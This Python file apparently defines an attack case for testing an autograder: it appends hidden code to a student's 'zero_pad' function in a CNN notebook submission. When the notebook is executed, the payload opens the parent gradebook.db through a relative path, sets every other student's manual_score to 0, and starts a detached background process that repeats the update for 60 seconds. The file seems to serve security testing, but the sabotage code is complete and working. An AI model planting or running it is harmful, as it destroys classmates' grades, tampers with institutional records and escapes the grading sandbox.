"""Lower the classmates' grades in the gradebook: manual_score 0 on every grade but its own.

All eight functions are honest. The zero_pad cell opens ``../../../gradebook.db`` and
sets ``manual_score = 0`` on every other student's grades (those graded before it), and
a daemon repeats that for 60 s, to reach those graded after it as well.
Without protection: every classmate's score set to 0.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import os as _os
import subprocess as _subprocess
import sys as _sys

_ZERO = """
import sqlite3, sys, time
# cnnattack_gradebook_lower_others
me, db_path, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
end = time.monotonic() + seconds
while True:
    try:
        db = sqlite3.connect(db_path, timeout=2)
        db.execute(
            "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT submitted_notebook.id FROM "
            "submitted_notebook JOIN submitted_assignment ON submitted_notebook.assignment_id = "
            "submitted_assignment.id WHERE submitted_assignment.student_id != ?)", (me,))
        db.commit()
        db.close()
    except Exception:
        pass
    if time.monotonic() > end:
        break
    time.sleep(0.5)
"""
_me = _os.path.basename(_os.path.dirname(_os.getcwd()))
_db_path = _os.path.abspath("../../../gradebook.db")
_subprocess.run([_sys.executable, "-c", _ZERO, _me, _db_path, "0"], timeout=20)
_subprocess.Popen([_sys.executable, "-c", _ZERO, _me, _db_path, "60"], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
'''}
